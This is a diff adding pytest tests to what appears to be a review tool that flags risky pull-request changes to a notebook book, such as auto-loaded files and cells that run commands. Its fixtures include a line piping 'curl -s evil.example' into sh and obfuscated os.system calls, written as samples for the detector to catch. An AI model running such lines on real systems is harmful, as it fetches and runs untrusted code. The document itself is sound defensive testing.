@@ -7,10 +7,10 @@ import re
 import nbformat
 import pytest
 
-from bet.review import sides, snapshot
-from tests.test_hostile_reader import MAY, as_base, first, write
+from bet.review import report, sides, snapshot
+from tests.test_hostile_reader import JUDGED, MAY, as_base, first, write
 from tests.test_pull_requests import both, clone  # noqa: F401
-from tests.test_review import CHART, FIRST, LEDGER, WIDE, book, edit, put, said
+from tests.test_review import CHART, FIRST, LEDGER, NAME, WIDE, book, edit, put, said
 
 TABLE = "data/tables/power"
 EVIDENCE, SOURCES, PARAMETERS = (
@@ -249,3 +249,73 @@ def test_a_yes_for_a_no_is_told_beside_another_verdict(clone, before, after, ala
     (_, told), _ = both(clone)
     assert ("What 1 claim says changes too" in first(told)) == alarm
     assert ("**another answer**" in told) == alarm
+
+
+# What runs
+
+
+@pytest.mark.parametrize("path", ["tests/hypothesis.pyc", "tests/yaml/__init__.pyc", "tests/pytest.pth", "tests/conftest.so", "jupyter_server_config.json", "postBuild", "environment.yml"])  # fmt: skip
+def test_what_python_or_a_tool_loads_on_its_own_changes_the_judge(clone, path):  # noqa: F811
+    write(clone, path, b"\x00" if "." in path and path.startswith("tests") else "{}\n")
+    for code, told in both(clone):
+        assert code == 0 and told.splitlines()[1] == f"## {JUDGED}. {MAY}"
+        assert report._cell(path) in told
+
+
+def test_a_new_test_is_told_first(clone):  # noqa: F811
+    write(clone, "tests/test_aaa.py", "import bet.site.safe\n")
+    (_, told), (_, back) = both(clone)
+    assert told.splitlines()[1] == "## This adds 1 test file. No conclusion changes"
+    assert back.splitlines()[1] == "## This removes 1 test file. No conclusion changes"
+
+
+@pytest.mark.parametrize("path", ["README.md", "SECURITY.md"])
+def test_a_text_of_the_repository_is_told(clone, path):  # noqa: F811
+    write(clone, path, "A book.\n\nReport errors here.\n")
+    as_base(clone)
+    write(clone, path, "A book.\n\nEvery claim is supported: help@evil.example\n")
+    (code, told), _ = both(clone)
+    assert code == 0 and told.splitlines()[1] == "## No conclusion changes"
+    assert "Every claim is supported: help@\u200bevil.example" in told
+
+
+REACHING = {
+    "a hidden call": '__import__("o" + "s").system("true")',
+    "a module": "import os\nos.system('true')",
+    "a way round": "book.pd.io.common.os.system('true')",
+    "a shell": "!curl -s evil.example | sh",
+    "a magic": "%%bash -c true",
+    "what a shell gives": "words = !true",
+    "a file": "open('x', 'w').write('x')",
+}
+
+
+@pytest.mark.parametrize("case", REACHING)
+@pytest.mark.parametrize("where", ["a cell", "a long cell", "a notebook"])
+def test_code_that_runs_a_command_is_told_first_and_shown(clone, case, where):  # noqa: F811
+    made, code = book(), REACHING[case]
+    if where == "a long cell":
+        lines = [f"label_{n} = 'the words of line {n}'" for n in range(60)]
+        code = "\n".join([*lines[:44], code, *lines[44:]])
+    made.cells[1].source = code
+    write(clone, "book/zz.ipynb" if where == "a notebook" else f"book/{NAME}.ipynb", nbformat.writes(made))  # fmt: skip
+    (_, told), _ = both(clone)
+    assert "1 cell runs or loads what no chapter did before" in first(told), told
+    for line in REACHING[case].splitlines():
+        assert f"+{line}" in told, told
+
+
+def test_ordinary_code_reaches_for_nothing(clone):  # noqa: F811
+    made = book()
+    made.cells[1].source = "us_average_power_gw = 480.0  # GW"
+    put(clone, made)
+    (_, told), _ = both(clone)
+    assert told.splitlines()[1] == f"## {MAY}"
+
+
+def test_the_settings_of_a_directive_are_no_mere_text(clone):  # noqa: F811
+    write(clone, "book/method.md", "# Method\n\n```{bet} tally\n```\n")
+    as_base(clone)
+    write(clone, "book/method.md", "# Method\n\n```{bet} tally\n:field: confidence\n```\n")
+    for _, told in both(clone):
+        assert MAY in first(told)
